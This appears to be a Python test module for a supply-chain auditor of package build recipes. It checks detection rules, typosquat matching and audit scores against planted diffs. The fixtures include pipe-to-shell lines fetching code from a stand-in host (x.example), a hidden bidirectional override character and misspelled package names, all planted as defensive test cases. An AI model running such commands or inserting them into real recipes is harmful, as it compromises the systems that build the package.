"""Queries of the rule catalogue over planted diffs. Each expects of every rule that it is met where it should be (hit) and nowhere else (false_hit)."""

from collections.abc import Iterable
from functools import reduce

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from auditloom.functions import payload
from auditloom.operators import corpus, dataflow, dependencies, diffs, graph, properties, rule_sets, rules, trees
from auditloom.plans import cycle, detectors, planted, relational
from auditloom.plans.audit import audit
from auditloom.sources.work import release, stage_table

QUERIES: dict = {}
SQL: dict[str, str] = {}


def _expected(ids: Iterable[str]) -> str:
    return "SELECT * FROM (VALUES " + ", ".join(f"('{i}', true, false)" for i in ids) + ") AS v(rule_id, hit, false_hit)"


def _texts(spark: SparkSession, cases: list[tuple[str, str, str]]) -> DataFrame:
    """id (even where the rule is to be met), text."""
    return spark.createDataFrame([(2 * i + k, c[1 + k]) for i, c in enumerate(cases) for k in (0, 1)], "id long, text string")


def _judged(spark: SparkSession, ids: list[str], found: DataFrame) -> DataFrame:
    """found: id, rule_id. Per rule of the cases, is it among the findings of the two."""
    asked = spark.createDataFrame([(2 * i + k, rule, k) for i, rule in enumerate(ids) for k in (0, 1)], "id long, rule_id string, k int")
    rows = asked.join(found.select("id", "rule_id", F.lit(True).alias("met")).distinct(), ["id", "rule_id"], "left")
    met = lambda k: F.coalesce(F.max(F.when(F.col("k") == k, F.col("met"))), F.lit(False))
    return rows.groupBy("rule_id").agg(met(0).alias("hit"), met(1).alias("false_hit"))


def _query(sql: str):
    def take(f):
        QUERIES[f.__name__], SQL[f.__name__] = f, sql
        return f

    return take


@_query(_expected(c[0] for c in planted.line_cases()))
def rule_hits(spark: SparkSession, d: str) -> DataFrame:
    cases = planted.line_cases()
    return _judged(spark, [c[0] for c in cases], rules.findings(diffs.diff_lines(_texts(spark, cases), "id", "text"), "id"))


@_query(_expected(c[0] for c in planted.structural_cases()))
def structural_hits(spark: SparkSession, d: str) -> DataFrame:
    cases = planted.structural_cases()
    return _judged(spark, [c[0] for c in cases], rules.structural(diffs.diff_facts(_texts(spark, cases), "id", "text"), "id"))


@_query(_expected(c[0] for c in planted.flow_cases()))
def flow_hits(spark: SparkSession, d: str) -> DataFrame:
    cases = planted.flow_cases()
    docs = _texts(spark, cases)
    tree = docs.select("id", F.explode(F.array(*(F.lit(p) for p in planted.COMMITTED))).alias("path"))
    return _judged(spark, [c[0] for c in cases], dataflow.flow_findings(dataflow.diff_actions(docs, "id", "text"), "id", tree))


@_query(_expected(c[0] for c in planted.tree_cases()))
def tree_hits(spark: SparkSession, d: str) -> DataFrame:
    cases = planted.tree_cases()
    rows = [(2 * i + k, c[1 + 2 * k], bytearray(c[2 + 2 * k])) for i, c in enumerate(cases) for k in (0, 1)]
    tree = spark.createDataFrame(rows, "id long, path string, content binary").withColumn("head", F.substring("content", 1, 4096))
    return _judged(spark, [c[0] for c in cases], trees.tree_findings(tree, "id"))


@_query(_expected(c[0] for c in planted.payload_cases()))
def payload_hits(spark: SparkSession, d: str) -> DataFrame:
    """By encoding and kind instead of a rule."""
    cases = planted.payload_cases()
    docs = _texts(spark, cases)
    single = docs.select("id", payload.payload_of("text").alias("rule_id"))
    lines = docs.select("id", F.concat(F.lit("--- a/x\n+++ b/x\n@@ -0,0 +1,9 @@\n+"), F.regexp_replace("text", "\n", "\n+")).alias("text"))
    found = dataflow.diff_actions(lines, "id", "text").where("kind = 'payload'").select("id", F.col("path").alias("rule_id"))
    return _judged(spark, [c[0] for c in cases], single.where("rule_id IS NOT NULL").unionByName(found))


#: Diffs through the whole audit, and what comes of them: score, worst, band, rules, gaps. Weights: LOW 5, MEDIUM 15, HIGH 25, CRITICAL 40.
_AUDITED = [
    (1, planted.diff("build() {", "  curl https://x.example/a | bash", "}"), 70, "CRITICAL", "High", "R001,R010,R060,R061,R072", ""),
    (2, planted.diff("# nothing"), 0, "INFO", "Low", "", ""),
    (3, planted.diff("build() {", "  na\u202eme", "}"), 100, "FATAL", "Critical", "R013,R060", ""),
    (4, planted.diff("x" * 9000), 0, "INFO", "Inconclusive", "", "line_truncated"),
    (5, planted.diff("build() {", "  printf x > gen.sh", "  bash ./gen.sh", "}"), 25, "HIGH", "Medium", "R060,R121", ""),
    (6, planted.diff("source=('git+https://x.example/r')"), 0, "INFO", "Inconclusive", "", "unpinned_source_ref"),
    (7, planted.diff("ver=$(date)"), 0, "INFO", "Inconclusive", "", "unresolved_parse_time"),
    (8, planted.diff("build() {", "  npm install", "}"), 0, "INFO", "Inconclusive", "R060,W002", "unpinned_build_deps"),
    (9, planted.diff("install=lamp.install"), 15, "MEDIUM", "Inconclusive", "R007,R068", "tree_not_analyzed"),
]


@_query("SELECT * FROM (VALUES " + ", ".join(str((i, *rest)) for i, _, *rest in _AUDITED) + ") AS v(id, score, worst, band, rules, gaps)")
def audit_outcomes(spark: SparkSession, d: str) -> DataFrame:
    docs = spark.createDataFrame([(i, t) for i, t, *_ in _AUDITED] + [(90, None), (91, "")], "id int, text string")
    return audit(docs, "id", "text").select("id", "score", "worst", "band", "rules", "gaps")


_REWRITTEN = " pkgver=1\n+depends=('x')\n build() {\n+  npm install\n }\n"
#: Subject, orphaned before, maintainer, what its diff adds, the rules.
_STATES = [("a", 1, "me", _REWRITTEN, ("R141", "R143")), ("b", 1, " ", _REWRITTEN, ()), ("c", 1, "me", "+#\n", ("R141",)), ("d", 0, "me", _REWRITTEN, ()), ("e", -1, "me", _REWRITTEN, ()), ("f", 1, "me", None, ("R141",))]


@_query("SELECT * FROM (VALUES " + ", ".join(str((i, rule)) for i, *_, ids in _STATES for rule in ids) + ") AS v(id, rule_id)")
def adoption_hits(spark: SparkSession, d: str) -> DataFrame:
    states = spark.createDataFrame([s[:3] for s in _STATES], "id string, was_orphaned int, maintainer string")
    docs = spark.createDataFrame([(i, planted._STRUCT + t) for i, _, _, t, _ in _STATES if t], "id string, text string")
    return dependencies.adoption_findings(states, diffs.diff_facts(docs, "id", "text"), "id").select("id", "rule_id")


_NAMES = [("requests", 900), ("requsets", 1), ("request", 2), ("numpy", 500), ("nunpy", 1), ("numpy-git", 3), ("npm", 800), ("nqm", 1), ("pillow", 90), ("pilow", 20), ("cryptography", 700), ("crytpograhpy", 1)]


@_query("SELECT * FROM (VALUES ('requsets', 'requests', 1), ('request', 'requests', 1), ('nunpy', 'numpy', 1), ('crytpograhpy', 'cryptography', 2)) AS v(name, target, distance)")
def near_name_hits(spark: SparkSession, d: str) -> DataFrame:
    """Swapped, dropped and changed letters; variants, short names and names of like standing stay quiet."""
    seen = spark.createDataFrame(_NAMES, "name string, n long")
    return dependencies.near_names(seen, seen, 10)


#: Rule, query and column of its subjects, condition: the detectors over the registry's tables.
_REGISTRY = [
    ("D001", detectors, "novel_dependency", "subject", "true"), ("D002", detectors, "dependency_typosquat", "name", "true"), ("D004", detectors, "provides_hijack", "subject", "true"), ("R075", detectors, "dependency_expansion", "subject", "true"),
    ("R110", detectors, "name_repo_divergence", "name", "true"), ("R101", detectors, "name_host_divergence", "name", "true"), ("R148", detectors, "metadata_divergence", "package_name", "true"), ("R074", relational, "typosquat", "name", "true"),
    ("R093", relational, "orphan_dependency", "src", "true"), ("R111", relational, "orphan_exposure", "src", "true"), ("R112", relational, "in_degree", "dst", "true"), ("R100", relational, "shared_key_cluster", "repo", "true"),
    ("R106", relational, "indicator_match", "subject", "NOT expired"), ("R073", relational, "commit_burst", "user_id", "true"), ("R065", cycle, "temporal_flags", "o_custkey", "very_recent"), ("R066", cycle, "temporal_flags", "o_custkey", "brand_new"), ("R067", cycle, "temporal_flags", "o_custkey", "revived"),
]


def _listed(rule: str, module, name: str, subject: str, condition: str) -> str:
    severity, category = dependencies.REGISTRY_RULES[rule]
    return f"SELECT DISTINCT CAST({subject} AS VARCHAR) AS subject, '{rule}' AS rule_id, '{severity}' AS severity, '{category}' AS category FROM ({module.SQL[name]}) WHERE {condition} AND {subject} IS NOT NULL"


@_query(" UNION ALL ".join(f"SELECT * FROM ({_listed(*r)})" for r in _REGISTRY))
def registry_findings(spark: SparkSession, d: str) -> DataFrame:
    """What the detectors over the registry find, as findings of one form that unite with those of diffs and corpus.

    Each detector runs once, on its own, and its findings are written: one plan of all would be too large for the driver. So are the dependencies and
    edges, which several of them read. What a detector leaves behind is released before the next.
    """
    added, known = detectors._dependencies(spark, d)
    given = (stage_table(added, "added"), stage_table(known, "known"))
    edges = stage_table(relational._edges(spark, d), "edges")
    shared = dict.fromkeys(("novel_dependency", "dependency_typosquat", "dependency_expansion"), given) | dict.fromkeys(("orphan_dependency", "orphan_exposure", "in_degree"), edges)
    parts = []
    for name in dict.fromkeys(r[2] for r in _REGISTRY):
        parts.append(_found_by(spark, d, name, *([shared[name]] if name in shared else [])))
        release(spark)
    return reduce(DataFrame.unionByName, parts)


def _found_by(spark: SparkSession, d: str, name: str, *shared) -> DataFrame:
    """The findings of the rules that rest on a query, written; shared: what it takes besides."""
    own = [r for r in _REGISTRY if r[2] == name]
    rows = own[0][1].QUERIES[name](spark, d, *shared)
    rows = stage_table(rows, "detected") if len(own) > 1 else rows
    found = (dependencies.as_findings(rows.where(condition), subject, rule) for rule, _, _, subject, condition in own)
    return stage_table(reduce(DataFrame.unionByName, found), "findings")


@_query(relational._EDGES + f""", {relational._HELD.replace('WITH d AS', 'd AS', 1).strip()},
  adopted AS (SELECT DISTINCT name FROM moves WHERE kind = 'adopted'),
  paths AS (SELECT src, dst, 1 AS distance FROM edges UNION SELECT p.src, e.dst, distance + 1 FROM paths p JOIN edges e ON p.dst = e.src WHERE distance < 3 AND e.dst <> p.src),
  closed AS (SELECT src, dst, min(distance) AS distance FROM paths GROUP BY 1, 2)
  SELECT src, min_by(dst, (distance, dst)) AS via, min(distance) AS distance, 'R107' AS rule_id FROM closed JOIN adopted ON dst = name WHERE distance >= 2 GROUP BY 1""")
def adopted_exposure(spark: SparkSession, d: str) -> DataFrame:
    """R107: packages that reach one adopted out of the orphan state over two or three hops."""
    adopted = corpus.transitions(relational._held(spark, d)).where("kind = 'adopted'").select(F.col("name").alias("node")).distinct()
    return graph.exposure(relational._edges(spark, d), adopted, 3).withColumn("rule_id", F.lit("R107"))


@_query(r"""WITH e AS (SELECT DISTINCT name FROM packages WHERE removed_at IS NULL),
  p AS (SELECT DISTINCT unnest(from_json(value, '["varchar"]')) AS subject, package_name AS name FROM package_properties WHERE property_key = 'depends' AND trim(value) LIKE '[%'),
  o AS (SELECT package_name AS name, count(*) AS n FROM package_properties GROUP BY 1 HAVING count(*) >= 25),
  s AS (SELECT subject, name, """ + relational._STEM + """ AS b, """ + relational._STEM.replace("(name,", "(subject,") + """ AS a FROM p WHERE subject IS NOT NULL AND name IS NOT NULL),
  f AS (SELECT subject, 'HIGH' AS severity, name FROM s WHERE name IN (SELECT name FROM e) AND NOT (contains(a, b) OR contains(b, a)) UNION ALL SELECT subject, 'MEDIUM', name FROM s WHERE name IN (SELECT name FROM o))
  SELECT subject, min(severity) AS severity, min_by(name, (severity, name)) AS name, 'R116' AS rule_id FROM f GROUP BY 1""")
def provides_scope(spark: SparkSession, d: str) -> DataFrame:
    """R116: users of a library as names that it newly provides: established and unrelated, or widely observed."""
    rows = relational.table(spark, d, "package_properties")
    provided = rows.where("property_key = 'depends' AND trim(value) LIKE '[%'").select(F.explode(F.from_json("value", "array<string>")).alias("subject"), F.col("package_name").alias("name")).where("subject IS NOT NULL AND name IS NOT NULL").distinct()
    observed = rows.groupBy(F.col("package_name").alias("name")).agg(F.count(F.lit(1)).alias("n"))
    return dependencies.scope_expansion(provided, relational.table(spark, d, "packages").where("removed_at IS NULL"), observed).withColumn("rule_id", F.lit("R116"))


_RECIPE = """pkgname=lamp
pkgver=1.2.3
pkgdesc="A lamp for the desk"
license=('MIT')
depends=('glibc>=2' 'zlib')
source=("https://Git.Example.org/maker/lamp-$pkgver.tar.gz")
install=lamp.install
build() {
  cmake -B out --fresh -DX=1
  make -C out
}
"""
_PROPERTIES = [
    ("version_scheme", '"semver"'), ("pkgdesc_tokens", '["desk", "lamp"]'), ("depends", '["glibc", "zlib"]'), ("source_hosts", '["git.example.org"]'), ("source_orgs", '["git.example.org/maker"]'), ("build_system_markers", '["cmake", "make"]'),
    ("build_line_count", '"0-5"'), ("configure_flags", '["--fresh", "-DX"]'), ("install_hook_present", "true"), ("license", '["MIT"]'),
]


@_query("SELECT * FROM (VALUES " + ", ".join(str(p) for p in _PROPERTIES) + ") AS v(property_key, value)")
def recipe_properties(spark: SparkSession, d: str) -> DataFrame:
    docs = spark.createDataFrame([(1, _RECIPE), (2, None), (3, "")], "id int, text string")
    return properties.recipe_properties(docs, "id", "text").select("property_key", "value")


_ENTRIES = [
    {"id": "U001", "pattern": "lampd", "severity": "HIGH", "match_target": "raw_line", "weight_override": 9}, {"id": "U002", "pattern": "(a+)+b", "severity": "LOW"}, {"id": "U003", "pattern": "(", "severity": "LOW"}, {"id": "U004", "pattern": "x", "severity": "SOME"},
    {"id": "U005", "pattern": "x", "severity": "LOW", "enabled": False}, {"id": "U006", "pattern": "x", "severity": "LOW", "experimental": True}, {"id": "R013", "pattern": "x", "severity": "LOW"}, {"id": "R010", "pattern": "x", "severity": "LOW", "enabled": False}, {"id": "U007", "pattern": "x", "severity": "LOW", "colour": 1},
    {"id": "U008", "pattern": "lampd", "severity": "LOW", "match_target": "raw_line", "exclude_if_matches": ["--quiet"]},
]
_LINTED = [("U002", "pattern repeats within a repetition"), ("U003", "pattern is not a regular expression"), ("U004", "unknown severity"), ("U007", "unknown field colour"), ("R013", "a FATAL rule cannot be changed")]


@_query("SELECT * FROM (VALUES " + ", ".join(str(p) for p in _LINTED) + ") AS v(rule_id, problem)")
def rule_lint(spark: SparkSession, d: str) -> DataFrame:
    return spark.createDataFrame([tuple(p) for p in rule_sets.load_rules(_ENTRIES)[2]], "rule_id string, problem string")


@_query("SELECT * FROM (VALUES (1, 'U001'), (1, 'U008'), (2, 'U001')) AS v(id, rule_id)")
def own_rules(spark: SparkSession, d: str) -> DataFrame:
    """A user's rules beside the catalogue: U008 stands down, U005 is off, U006 experimental, and R010 switched off."""
    docs = spark.createDataFrame([(1, planted.diff("build() {", "  lampd x", "}")), (2, planted.diff("build() {", "  lampd --quiet x", "}")), (3, planted.diff("build() {", "  curl x", "}"))], "id int, text string")
    return rules.findings(diffs.diff_lines(docs, "id", "text"), "id", rule_sets.load_rules(_ENTRIES)[0]).select("id", "rule_id")


_UPDATES = [
    (1, "-pkgver=1\n+pkgver=2\n-sha256sums=('a')\n+sha256sums=('b')\n", True), (2, "-pkgver=1\n+pkgver=2\n build() {\n+  make\n }\n", False), (3, "+#\n", False), (4, "-pkgver=1\n+pkgver=2\n+depends=('x')\n", False), (5, "-pkgver=1\n+pkgver=2\n+source=('https://new.example/x')\n", False),
    (6, "-pkgver=1\n+pkgver=2\n-source=('https://a.example/1')\n+source=('https://a.example/2')\n", True),
]


@_query("SELECT * FROM (VALUES " + ", ".join(str((i, t)) for i, _, t in _UPDATES) + ") AS v(id, trivial)")
def trivial_updates(spark: SparkSession, d: str) -> DataFrame:
    docs = spark.createDataFrame([(i, planted._STRUCT + t) for i, t, _ in _UPDATES], "id int, text string")
    return diffs.diff_facts(docs, "id", "text").select("id", diffs.is_trivial().alias("trivial"))


_ALIASED = [(1, ["alias get='curl -s'", "build() {", "  get https://x.example/a | sh", "}"], "R001"), (2, ["build() {", "  get https://x.example/a | sh", "}"], None)]


@_query("SELECT 1 AS id, 'R001' AS rule_id")
def alias_hits(spark: SparkSession, d: str) -> DataFrame:
    """An alias is put in where a command stands."""
    docs = spark.createDataFrame([(i, planted.diff(*own)) for i, own, _ in _ALIASED], "id int, text string")
    return rules.findings(diffs.diff_lines(docs, "id", "text"), "id").where("rule_id = 'R001'").select("id", "rule_id")


@_query("SELECT * FROM (VALUES (1, 80, 'HIGH', 'High', 'D001,R060,R072,R118,R136,R141', 'stage_degraded'), (2, 0, 'INFO', 'Inconclusive', 'R060,W001', 'deps_not_scanned')) AS v(id, score, worst, band, rules, gaps)")
def audit_in_context(spark: SparkSession, d: str) -> DataFrame:
    """Diffs with their trees, what the registry's detectors found, and what others could not read."""
    docs = spark.createDataFrame([(i, planted.diff("build() {", "  sh kept.sh", "}")) for i in (1, 2)], "id int, text string")
    tree = spark.createDataFrame([(1, "sub/kept.sh", bytearray(b"#!/bin/sh")), (1, "bin/tool", bytearray(b"\x7fELF12"))], "id int, path string, head binary")
    others = spark.createDataFrame([(1, "D001", "MEDIUM", "dependency"), (1, "R141", "MEDIUM", "takeover"), (9, "D001", "MEDIUM", "dependency")], "id int, rule_id string, severity string, category string")
    notes = spark.createDataFrame([(1, "stage_degraded"), (1, "no such gap"), (2, "deps_not_scanned"), (9, "diff_truncated")], "id int, gap string")
    return audit(docs, "id", "text", tree, others, notes).select("id", "score", "worst", "band", "rules", "gaps")
